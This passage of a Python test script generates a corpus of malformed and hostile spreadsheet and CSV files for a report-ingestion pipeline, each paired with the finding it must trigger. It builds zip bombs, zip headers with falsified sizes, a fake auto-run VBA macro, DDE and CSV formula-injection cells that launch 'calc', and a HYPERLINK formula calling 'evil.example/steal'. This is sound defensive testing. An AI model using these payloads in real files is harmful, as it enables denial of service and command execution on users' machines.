"""Generate the bad-input corpus: files a village clerk (or an attacker) could drop into
the landing area, each of which must end as a Chinese finding naming the file, with
bounded time and memory, while the county's other files still load.

Deterministic: the same bytes and names on every run (fixed zip timestamps, seeded
pseudo-random bytes). Nothing binary is committed; the test session writes the files
into a temporary landing folder:

    python tests/corpus/make_corpus.py OUT_DIR      # writes the corpus to OUT_DIR

`corpus()` returns `Item`s: name (str, or bytes for names that are not UTF-8), data,
category, and `expect` (rule codes of which at least one must be among the file's
findings; empty = any finding). The xlsx files are written by a minimal writer here
(inline strings, explicit cell references), so merged cells, formulas with and without
saved values, macro parts and broken zip structures are under full control.
"""
from __future__ import annotations

import hashlib
import io
import os
import random
import struct
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

MB = 1024 * 1024
WEEK_TEXT = "2026年第47周"

# Defaults of pipelines.settings; the generator sizes the oversize files from them.
MAX_FILE_BYTES = 50 * MB
MAX_UNCOMPRESSED_BYTES = 100 * MB
MAX_ROWS = 50_000
MAX_CELLS = 5_000_000


@dataclass
class Item:
    name: str | bytes          # file name inside the corpus folder (bytes: not UTF-8)
    data: bytes
    category: str
    expect: tuple[str, ...] = ()
    note: str = ""

    @property
    def display(self) -> str:
        """The name as the pipeline records it (undecodable bytes as \\xNN)."""
        if isinstance(self.name, bytes):
            return self.name.decode("utf-8", "backslashreplace")
        return self.name


# ---- form content ---------------------------------------------------------------------

B_HEADERS = ["是否贫困村", "第一书记", "驻村工作队人数", "期初贫困户数", "期初贫困人口数", "本周新识别户数",
             "本周新识别人数", "本周返贫户数", "本周返贫人数", "本周脱贫户数", "本周脱贫人数", "本周注销户数",
             "本周注销人数", "期末贫困户数", "期末贫困人口数", "本周到村扶贫资金(万元)",
             "本周发放扶贫小额信贷(万元)", "示范基地带动贫困户数", "本周技能培训人次"]
C_HEADERS = ["村代码", "村名", "是否贫困村", "期初贫困户数", "期初贫困人口数", "本周新识别户数", "本周新识别人数",
             "本周返贫户数", "本周返贫人数", "本周脱贫户数", "本周脱贫人数", "本周注销户数", "本周注销人数",
             "期末贫困户数", "期末贫困人口数", "本周发放扶贫小额信贷(万元)", "本周技能培训期数", "本周技能培训人次"]
D_HEADERS = ["乡镇代码", "乡镇名", "贫困村数", "期初贫困户数", "期初贫困人口数", "本周新识别户数", "本周新识别人数",
             "本周返贫户数", "本周返贫人数", "本周脱贫户数", "本周脱贫人数", "本周注销户数", "本周注销人数",
             "期末贫困户数", "期末贫困人口数", "本周发放扶贫小额信贷(万元)", "示范基地数(累计)", "基地带动贫困户数",
             "基地带动贫困人口数", "本周投入财政扶贫资金(万元)", "派驻帮扶队员人数", "本周督导暗访次数"]
PLAN_HEADERS = ["户编号", "户主姓名", "户主身份证号", "家庭人口数", "贫困户属性", "主要致贫原因", "识别年度",
                "计划脱贫年度", "当前状态", "本周变动", "人均纯收入(元)", "不愁吃", "不愁穿", "义务教育有保障",
                "基本医疗有保障", "住房安全有保障", "本周进展"]


class Codes:
    """Unit codes not in the register, one per file, so that no two corpus files (and no
    corpus file and an example) are the same unit and form (the newer would supersede)."""

    def __init__(self):
        self.village = 300
        self.township = 300

    def next_village(self) -> str:
        self.village += 1
        return f"411622107{self.village:03d}"

    def next_township(self) -> str:
        self.township += 1
        return f"411622{self.township:03d}"


def village_report(code: str, name: str, week: str = WEEK_TEXT, *, secretary: object = "王明",
                   headers: list[str] | None = None, values: list | None = None) -> list[list]:
    headers = headers or B_HEADERS
    row = values if values is not None else ["是", secretary, 3, 10, 31, 0, 0, 0, 0, 1, 3, 0, 0, 9, 28, 2.5, 0, 0, 5]
    return [[f"{name}精准扶贫村级周报"],
            [f"填报单位：{name}", "", "", "", f"行政区划代码：{code}", "", "", "", f"填报周次：{week}"],
            headers,
            row,
            ["填表人：张三", "", "审核人：李四", "", "填报日期：2026-11-22"]]


def township_rows(code: str, n: int = 3) -> list[list]:
    rows = []
    for i in range(n):
        rows.append([f"{code}{201 + i:03d}", f"第{i + 1}村", "是", 10, 30, 0, 0, 0, 0, 1, 2, 0, 0, 9, 28, 1.5, 0, 0])
    total = ["合计", ""] + [""] + [sum(r[j] for r in rows) for j in range(3, len(C_HEADERS))]
    return rows + [total]


def township_report(code: str, name: str = "某某镇", n: int = 3, headers: list[str] | None = None,
                    extra: list[str] = ()) -> list[list]:
    body = township_rows(code, n)
    if extra:
        body = [r + [f"附加{j}" for j in range(len(extra))] for r in body]
    return ([[f"{name}精准扶贫周报（{WEEK_TEXT}）"], [f"填报单位：{name}", "", "", f"代码：{code}"],
             (headers or C_HEADERS) + list(extra)] + body +
            [["填表人：赵六", "", "专职副书记：钱七", "", "填报日期：2026/11/22"]])


def county_report(code: str, name: str) -> list[list]:
    rows = [[f"{code}{101 + i:03d}", f"第{i + 1}镇", 2, 20, 60, 0, 0, 0, 0, 1, 3, 0, 0, 19, 57, 100.0, 3, 10, 30,
             50.0, 6, 1] for i in range(2)]
    total = ["合计", ""] + [sum(r[j] for r in rows) for j in range(2, len(D_HEADERS))]
    return ([[f"{name}精准扶贫县级周报（{WEEK_TEXT}）"], [f"填报单位：{name}", "", "", f"行政区划代码：{code}"],
             D_HEADERS] + rows + [total] + [["填表人：孙八", "", "专职常委：周九"]])


def id_number(region: str, birth: str, seq: int) -> str:
    body = f"{region}{birth}{seq:03d}"
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    check = "10X98765432"[sum(int(d) * w for d, w in zip(body, weights)) % 11]
    return body + check


def ledger_plan(village: str, n: int = 3) -> list[list]:
    rows = [PLAN_HEADERS]
    for i in range(n):
        rows.append([f"{village}{i + 1:04d}", f"户主{i + 1}", id_number("110101", "19700101", 100 + i), 3,
                     "一般贫困户", "因病", 2016, 2026, "贫困", "无", 2800, "是", "是", "是", "是", "是", ""])
    return rows


def to_csv(rows: list[list], encoding: str = "utf-8", sep: str = ",") -> bytes:
    lines = []
    for r in rows:
        cells = []
        for v in r:
            s = "" if v is None else str(v)
            if any(ch in s for ch in (sep, '"', "\n", "\r")):
                s = '"' + s.replace('"', '""') + '"'
            cells.append(s)
        lines.append(sep.join(cells))
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


# ---- a minimal xlsx writer ---------------------------------------------------------------

FIXED_TIME = (2026, 11, 22, 18, 0, 0)
CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def col_letters(j: int) -> str:
    s, j = "", j + 1
    while j:
        j, r = divmod(j - 1, 26)
        s = chr(65 + r) + s
    return s


@dataclass
class XSheet:
    name: str
    rows: list[list] = field(default_factory=list)
    merges: list[str] = field(default_factory=list)
    formulas: dict = field(default_factory=dict)   # "D8" -> (formula text, saved value or None)
    raw_xml: bytes | None = None                    # the whole sheet XML, when given


def cell_xml(ref: str, v: object, formula: tuple | None = None) -> str:
    if formula is not None:
        text, saved = formula
        f = f"<f>{escape(text)}</f>"
        if saved is None:
            return f'<c r="{ref}">{f}</c>'
        if isinstance(saved, str):
            return f'<c r="{ref}" t="str">{f}<v>{escape(saved)}</v></c>'
        return f'<c r="{ref}">{f}<v>{saved}</v></c>'
    if v is None or v == "":
        return ""
    if isinstance(v, bool):
        return f'<c r="{ref}" t="b"><v>{int(v)}</v></c>'
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>'


def sheet_xml(sh: XSheet) -> bytes:
    if sh.raw_xml is not None:
        return sh.raw_xml
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>']
    formulas = dict(sh.formulas)
    n_rows = max(len(sh.rows), max((int("".join(ch for ch in r if ch.isdigit())) for r in formulas), default=0))
    for i in range(n_rows):
        row = sh.rows[i] if i < len(sh.rows) else []
        width = max(len(row), max((_col_of(r) + 1 for r in formulas if _row_of(r) == i + 1), default=0))
        cells = []
        for j in range(width):
            ref = f"{col_letters(j)}{i + 1}"
            v = row[j] if j < len(row) else ""
            cells.append(cell_xml(ref, v, formulas.pop(ref, None)))
        out.append(f'<row r="{i + 1}">{"".join(cells)}</row>')
    out.append("</sheetData>")
    if sh.merges:
        out.append(f'<mergeCells count="{len(sh.merges)}">'
                   + "".join(f'<mergeCell ref="{m}"/>' for m in sh.merges) + "</mergeCells>")
    out.append("</worksheet>")
    return "".join(out).encode("utf-8")


def _row_of(ref: str) -> int:
    return int("".join(ch for ch in ref if ch.isdigit()))


def _col_of(ref: str) -> int:
    n = 0
    for ch in ref:
        if ch.isalpha():
            n = n * 26 + ord(ch.upper()) - 64
    return n - 1


def package_parts(sheets: list[XSheet], macro: bool = False) -> list[tuple[str, bytes]]:
    ct_main = CT_XLSM if macro else CT_XLSX
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" '
        f'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(len(sheets)))
    vba_ct = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else ""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          f'<Default Extension="xml" ContentType="application/xml"/>{vba_ct}'
          f'<Override PartName="/xl/workbook.xml" ContentType="{ct_main}"/>{overrides}</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          + "".join(f'<sheet name="{escape(s.name, {chr(34): "&quot;"})}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
                    for i, s in enumerate(sheets)) + "</sheets></workbook>")
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               + "".join(f'<Relationship Id="rId{i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/'
                         f'2006/relationships/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
                         for i in range(len(sheets)))
               + (f'<Relationship Id="rId{len(sheets) + 1}" Type="http://schemas.microsoft.com/office/2006/'
                  'relationships/vbaProject" Target="vbaProject.bin"/>' if macro else "")
               + "</Relationships>")
    parts = [("[Content_Types].xml", ct.encode()), ("_rels/.rels", rels.encode()),
             ("xl/workbook.xml", wb.encode()), ("xl/_rels/workbook.xml.rels", wb_rels.encode())]
    parts += [(f"xl/worksheets/sheet{i + 1}.xml", sheet_xml(s)) for i, s in enumerate(sheets)]
    if macro:
        parts.append(("xl/vbaProject.bin", fake_vba_project()))
    return parts


def zip_parts(parts: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def xlsx(sheets: list[XSheet] | list[list], macro: bool = False, sheet_name: str = "Sheet1") -> bytes:
    if sheets and not isinstance(sheets[0], XSheet):
        sheets = [XSheet(sheet_name, sheets)]
    return zip_parts(package_parts(sheets, macro))


def fake_vba_project() -> bytes:
    """An OLE compound file named like a VBA project (content never run, never parsed)."""
    return cfb({"_VBA_PROJECT_CUR": b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
                                    b"Shell \"calc.exe\"\r\nEnd Sub\r\n".ljust(4096, b"\0")})


# ---- a minimal OLE2 / Compound File Binary writer (MS-CFB, version 3) ------------------------

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams: dict[str, bytes]) -> bytes:
    """A compound file holding `streams` (each padded to >= 4096 bytes so that all live in
    regular 512-byte sectors: no mini stream needed). One FAT sector, one directory
    sector per four entries; the directory tree is a right-leaning chain (valid, all black)."""
    names = list(streams)
    order = sorted(range(len(names)), key=lambda i: (len(names[i]), names[i].upper()))
    datas = [streams[n].ljust(4096, b"\0") for n in names]
    n_dir_sectors = (len(names) + 1 + 3) // 4
    sector_lists, next_free = [], 1 + n_dir_sectors
    for d in datas:
        count = (len(d) + 511) // 512
        sector_lists.append(list(range(next_free, next_free + count)))
        next_free += count
    assert next_free <= 128, "one FAT sector only"
    fat = [FREESECT] * 128
    fat[0] = FATSECT
    for k in range(n_dir_sectors):
        fat[1 + k] = 1 + k + 1 if k + 1 < n_dir_sectors else ENDOFCHAIN
    for secs in sector_lists:
        for a, b in zip(secs, secs[1:] + [ENDOFCHAIN]):
            fat[a] = b

    def entry(name: str, typ: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), typ, 1)
                + struct.pack("<III", left, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))

    # entry ids: 0 = root, 1.. = streams in `names` order; tree: a chain of right siblings in sort order
    right_of = {order[k]: order[k + 1] + 1 for k in range(len(order) - 1)}
    dir_entries = [entry("Root Entry", 5, NOSTREAM, NOSTREAM, order[0] + 1 if order else NOSTREAM, ENDOFCHAIN, 0)]
    for i, n in enumerate(names):
        dir_entries.append(entry(n, 2, NOSTREAM, right_of.get(i, NOSTREAM), NOSTREAM,
                                 sector_lists[i][0], len(streams[n])))
    while len(dir_entries) % 4:
        dir_entries.append(entry("", 0, NOSTREAM, NOSTREAM, NOSTREAM, 0, 0)[:64] + b"\0" * 64)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREESECT) * 108)
    assert len(header) == 512
    body = struct.pack("<128I", *fat) + b"".join(dir_entries)
    for d in datas:
        body += d.ljust(((len(d) + 511) // 512) * 512, b"\0")
    return header + body


def encrypted_workbook() -> bytes:
    """What Excel writes for a workbook with an open password (MS-OFFCRYPTO agile
    encryption): an OLE container with EncryptionInfo and EncryptedPackage streams."""
    info_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
                '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
                'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
                '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
                'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
                '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
                '<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
                'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
                'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></keyEncryptor></keyEncryptors></encryption>')
    info = struct.pack("<HHI", 4, 4, 0x40) + info_xml.encode("utf-8")
    rnd = random.Random(7)
    package = struct.pack("<Q", 8000) + bytes(rnd.getrandbits(8) for _ in range(8000))
    return cfb({"EncryptionInfo": info, "EncryptedPackage": package})


# ---- zip tricks -------------------------------------------------------------------------------

def zip_bomb(total: int) -> bytes:
    """A valid xlsx whose one sheet inflates to `total` bytes (honest sizes in the
    central directory): ~1000:1, so ~100 KB on disk."""
    parts = package_parts([XSheet("Sheet1", [["x"]])])
    head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    tail = b'<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            if name.startswith("xl/worksheets/"):
                info = zipfile.ZipInfo(name, FIXED_TIME)
                info.compress_type = zipfile.ZIP_DEFLATED
                with z.open(info, "w", force_zip64=True) as f:
                    f.write(head)
                    block = b" " * MB
                    left = total - len(head) - len(tail)
                    while left > 0:
                        f.write(block[:min(left, MB)])
                        left -= MB
                    f.write(tail)
            else:
                info = zipfile.ZipInfo(name, FIXED_TIME)
                info.compress_type = zipfile.ZIP_DEFLATED
                z.writestr(info, data)
    return buf.getvalue()


def patch_member(data: bytes, member: str, *, size: int | None = None, flag: int | None = None,
                 crc: int | None = None) -> bytes:
    """Rewrite the declared uncompressed size / flag bits / CRC of a member in both its
    local header and the central directory."""
    b = bytearray(data)
    name = member.encode()
    pos = 0
    while (j := b.find(name, pos)) >= 0:
        if b[j - 30:j - 26] == b"PK\x03\x04":
            h = j - 30
            if size is not None:
                struct.pack_into("<I", b, h + 22, size)
            if flag is not None:
                struct.pack_into("<H", b, h + 6, struct.unpack_from("<H", b, h + 6)[0] | flag)
            if crc is not None:
                struct.pack_into("<I", b, h + 14, crc)
        if b[j - 46:j - 42] == b"PK\x01\x02":
            h = j - 46
            if size is not None:
                struct.pack_into("<I", b, h + 24, size)
            if flag is not None:
                struct.pack_into("<H", b, h + 8, struct.unpack_from("<H", b, h + 8)[0] | flag)
            if crc is not None:
                struct.pack_into("<I", b, h + 16, crc)
        pos = j + 1
    return bytes(b)


def lying_bomb(actual: int, declared: int = 4096) -> bytes:
    """Central directory says the sheet is 4 KB; it inflates to `actual` bytes."""
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             b'spreadsheetml/2006/main"><sheetData>' + b" " * actual
             + b'<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>')
    parts = package_parts([XSheet("Sheet1", raw_xml=sheet)])
    return patch_member(zip_parts(parts), "xl/worksheets/sheet1.xml", size=declared)


def lying_part(member: str, actual: int, declared: int = 2048) -> bytes:
    """Another part than the sheet lies about its size ([Content_Types].xml, sharedStrings)."""
    parts = package_parts([XSheet("Sheet1", village_report("411622107398", "某村"))])
    parts = [(n, d + b" " * actual if n == member else d) for n, d in parts]
    if member not in dict(parts):
        parts.append((member, b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                              b'spreadsheetml/2006/main">' + b" " * actual + b"</sst>"))
    return patch_member(zip_parts(parts), member, size=declared)


def many_members(n: int, each: int) -> bytes:
    parts = package_parts([XSheet("Sheet1", village_report("411622107399", "某村"))])
    filler = b"\0" * each
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts + [(f"xl/media/image{i}.png", filler) for i in range(n)]:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def sparse_sheet(last_ref: str) -> bytes:
    body = (f'<row r="1"><c r="A1" t="inlineStr"><is><t>户编号</t></is></c></row>'
            f'<row r="{_row_of(last_ref)}"><c r="{last_ref}"><v>1</v></c></row>')
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>').encode()
    return zip_parts(package_parts([XSheet("Sheet1", raw_xml=sheet)]))


def many_rows_xlsx(n: int) -> bytes:
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, n + 1))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>').encode()
    return zip_parts(package_parts([XSheet("Sheet1", raw_xml=sheet)]))


def xls(cells: dict) -> bytes:
    """A legacy .xls (BIFF8) written by xlwt: {(row, col): value} (0-based)."""
    import xlwt

    wb = xlwt.Workbook()
    ws = wb.add_sheet("Sheet1")
    for (r, c), v in cells.items():
        ws.write(r, c, v)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xls_with_password() -> bytes:
    """An .xls whose globals carry a FILEPASS record (what a password to open writes):
    xlwt cannot encrypt, so its WRITEACCESS record (same length) is renamed FILEPASS."""
    data = xls({(0, 0): "户编号", (1, 0): "4116221073010001"})
    assert data.count(b"\x5c\x00\x70\x00") == 1
    return data.replace(b"\x5c\x00\x70\x00", b"\x2f\x00\x70\x00", 1)


def prandom(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


# ---- the corpus ---------------------------------------------------------------------------------

def corpus(max_file_bytes: int = MAX_FILE_BYTES, max_uncompressed: int = MAX_UNCOMPRESSED_BYTES,
           max_rows: int = MAX_ROWS, max_cells: int = MAX_CELLS) -> list[Item]:
    c = Codes()
    items: list[Item] = []

    def add(name, data, category, *expect, note=""):
        items.append(Item(name, data, category, tuple(expect), note))

    good_b = xlsx(village_report(c.next_village(), "试验一村"))

    # -- truncated and corrupt workbooks
    add("截断一半的村级周报.xlsx", good_b[:len(good_b) // 2], "corrupt", "file.unreadable")
    add("只有10字节.xlsx", good_b[:10], "corrupt", "file.unreadable")
    cd = good_b.rfind(b"PK\x01\x02", 0, good_b.find(b"PK\x05\x06"))
    first_cd = good_b.find(b"PK\x01\x02")
    add("缺中央目录.xlsx", good_b[:first_cd], "corrupt", "file.unreadable")
    del cd
    b = bytearray(xlsx(village_report(c.next_village(), "试验二村")))
    mid = b.find(b"xl/worksheets/sheet1.xml") + 40
    b[mid:mid + 200] = b"\0" * 200
    add("中间被清零.xlsx", bytes(b), "corrupt", "file.unreadable")
    add("校验和错误.xlsx", patch_member(xlsx(village_report(c.next_village(), "试验三村")),
                                   "xl/worksheets/sheet1.xml", crc=0x12345678), "corrupt", "file.unreadable")
    add("假压缩包.xlsx", b"PK\x03\x04" + b"this is not a zip at all" * 10, "corrupt", "file.unreadable")
    add("随机字节.xlsx", prandom(20_000, 1), "corrupt", "file.unreadable", "file.not_a_form")
    add("空压缩包.xlsx", zip_parts([]), "corrupt", "file.unreadable")
    add("缺工作簿.xlsx", zip_parts([("[Content_Types].xml", b"<Types/>")]), "corrupt", "file.unreadable")
    add("网页另存为.xls", ("<html><body><table><tr><td>户编号</td><td>户主姓名</td></tr>"
                        "<tr><td>1</td><td>张三</td></tr></table></body></html>").encode(), "corrupt",
        "file.not_a_form")
    add("坏的OLE.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + prandom(4000, 2), "corrupt", "file.unreadable")
    add("图片改名.xlsx", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + prandom(3000, 3), "corrupt", "file.unreadable")

    # -- zip bombs
    add("压缩炸弹.xlsx", zip_bomb(max_uncompressed + MB), "zip_bomb", "file.too_large_uncompressed")
    add("谎报大小的压缩炸弹.xlsx", lying_bomb(max_uncompressed + MB), "zip_bomb", "file.unreadable")
    add("谎报大小的类型清单.xlsx", lying_part("[Content_Types].xml", max_uncompressed + MB), "zip_bomb",
        "file.unreadable")
    add("谎报大小的共享字符串.xlsx", lying_part("xl/sharedStrings.xml", max_uncompressed + MB), "zip_bomb",
        "file.unreadable")
    add("上万个成员.xlsx", many_members(2000, max_uncompressed // 2000 + 1024), "zip_bomb",
        "file.too_large_uncompressed")
    add("稀疏区域炸弹.xlsx", sparse_sheet("XFD1048576"), "zip_bomb", "file.too_many_rows")
    add("旧版xls稀疏区域.xls", xls({(0, 0): "户编号", (65535, 255): 1}), "zip_bomb", "file.too_many_rows",
        note="not a zip: a 6 KB BIFF file whose dense range would be 65536 x 256 cells")
    add("旧版xls超大区域.xls", xls({(0, 0): "村代码", (max_cells // 256 + 10, 255): 1}), "zip_bomb",
        "file.too_many_cells")
    add("超宽区域.xlsx", sparse_sheet(f"XFD{max_cells // 16384 + 10}"), "zip_bomb", "file.too_many_cells")

    # -- password protected
    add("设置了打开密码.xlsx", encrypted_workbook(), "encrypted", "file.encrypted")
    add("旧版xls设置了密码.xls", xls_with_password(), "encrypted", "file.encrypted")
    add("加密的压缩成员.xlsx", patch_member(xlsx(village_report(c.next_village(), "试验四村")),
                                     "xl/worksheets/sheet1.xml", flag=0x1), "encrypted", "file.encrypted")

    # -- macro-enabled
    add("启用宏的周报.xlsm", xlsx(village_report(c.next_village(), "试验五村"), macro=True), "macro", "file.macro")
    add("含宏却改名为xlsx.xlsx", xlsx(village_report(c.next_village(), "试验六村"), macro=True), "macro",
        "file.macro")

    # -- formulas
    trows = township_report(c.next_township(), "公式镇")
    total_row = len(trows) - 1   # 1-based row of 合计 is len-1 (footer last)
    formulas = {f"{col_letters(j)}{total_row}": (f"SUM({col_letters(j)}4:{col_letters(j)}{total_row - 1})", None)
                for j in range(3, len(C_HEADERS))}
    for ref in formulas:
        trows[total_row - 1][_col_of(ref)] = ""
    add("合计为公式未计算.xlsx", xlsx([XSheet("乡镇周报", trows, formulas=formulas)]), "formula",
        "cell.formula_no_value")
    rows = village_report(c.next_village(), "超链接村")
    add("超链接公式.xlsx", xlsx([XSheet("村级周报", rows, formulas={"B4": (
        'HYPERLINK("http://evil.example/steal?x=1","王明")', "王明")})]), "formula", "cell.external_formula")
    rows = village_report(c.next_village(), "DDE村")
    add("DDE公式.xlsx", xlsx([XSheet("村级周报", rows, formulas={"B4": ("cmd|' /C calc'!A0", 0)})]), "formula",
        "cell.external_formula")
    rows = village_report(c.next_village(), "公式文本村", secretary="=cmd|' /C calc'!A0")
    rows[3][3] = "=1+1"
    add("CSV里的公式注入.csv", to_csv(rows), "formula", "cell.external_formula")

    # -- huge cells and sheets
    add("一兆字符的单元格.xlsx", xlsx(village_report(c.next_village(), "长文本村", secretary="长" * MB)), "huge",
        "cell.too_long")
    add("一兆字符的单元格.csv", to_csv(village_report(c.next_village(), "长文本二村", secretary="字" * MB)), "huge",
        "cell.too_long")
    add("超过行数上限.xlsx", many_rows_xlsx(max_rows + 1), "huge", "file.too_many_rows")
    add("超过行数上限.csv", ("村代码,村名\n" + "411622107201,焦东村\n" * max_rows).encode(), "huge",
        "file.too_many_rows")
    add("超过单元格上限.csv", ((",".join(["1"] * 100_000) + "\n") * (max_cells // 100_000 + 1)).encode(), "huge",
        "file.too_many_cells")
    add("超过文件大小上限.csv", b"a," * (max_file_bytes // 2 + 1024), "huge", "file.too_large")

    # -- encodings
    head = to_csv(township_report(c.next_township(), "编码镇")[:3], "utf-8")
    tail = to_csv(township_report(c.next_township(), "编码镇")[3:], "gbk")
    add("前UTF8后GBK.csv", head + tail, "encoding", "file.mixed_encoding")
    add("BOM加混合编码.csv", b"\xef\xbb\xbf" + to_csv(township_report(c.next_township(), "二编码镇")[:3])
        + to_csv(township_report(c.next_township(), "二编码镇")[3:], "gbk"), "encoding", "file.mixed_encoding")
    add("UTF16带BOM.csv", to_csv(township_report(c.next_township(), "十六镇"), "utf-16"), "encoding", "unit.unknown")
    add("UTF16无BOM.csv", to_csv(township_report(c.next_township(), "十六二镇"), "utf-16-le"), "encoding",
        "unit.unknown")
    add("UTF16大端.csv", b"\xfe\xff" + to_csv(township_report(c.next_township(), "十六三镇"), "utf-16-be"),
        "encoding", "unit.unknown")
    big5 = ("村代碼,村名,是否貧困村,期初貧困戶數,期初貧困人口數,期末貧困戶數\r\n"
            "411622107201,焦東村,是,38,126,37\r\n").encode("big5")
    add("繁体Big5编码.csv", big5, "encoding", "file.not_a_form")
    add("Latin1乱码.csv", "Ñame,Åge,Ïd\r\nÇa,Ûn,Ôk\r\n".encode("latin-1"), "encoding", "file.not_a_form",
        "file.unreadable")
    add("含NUL字节.csv", b"\xe6\x9d\x91\xe4\xbb\xa3\xe7\xa0\x81\0\0\0,\0\0x\r\n" * 20, "encoding", "file.unreadable")

    # -- empty and structure
    add("空文件.xlsx", b"", "empty", "file.empty")
    add("只有空白.csv", b"  \r\n\r\n \t \r\n", "empty", "file.empty")
    add("只有BOM.csv", b"\xef\xbb\xbf", "empty", "file.empty")
    add("空工作表.xlsx", xlsx([XSheet("Sheet1", [])]), "empty", "file.empty")
    add("只有表头.xlsx", xlsx(village_report(c.next_village(), "表头村")[:3]), "structure", "file.no_rows")
    add("只有表头.csv", to_csv(township_report(c.next_township(), "表头镇")[:3]), "structure", "file.no_rows")
    add("缺少栏目.xlsx", xlsx(village_report(c.next_village(), "缺栏村", headers=B_HEADERS[:10],
                                           values=["是", "王明", 3, 10, 31, 0, 0, 0, 0, 1])),
        "structure", "file.missing_columns")
    add("多出栏目.csv", to_csv(township_report(c.next_township(), "多栏镇", extra=["联系人", "备用一", "备用二"])),
        "structure", "file.unknown_columns")
    dup = B_HEADERS[:5] + ["期初贫困户数"] + B_HEADERS[5:]
    vals = ["是", "王明", 3, 10, 31, 11, 0, 0, 0, 0, 1, 3, 0, 0, 9, 28, 2.5, 0, 0, 5]
    add("重复表头.xlsx", xlsx(village_report(c.next_village(), "重复村", headers=dup, values=vals)), "structure",
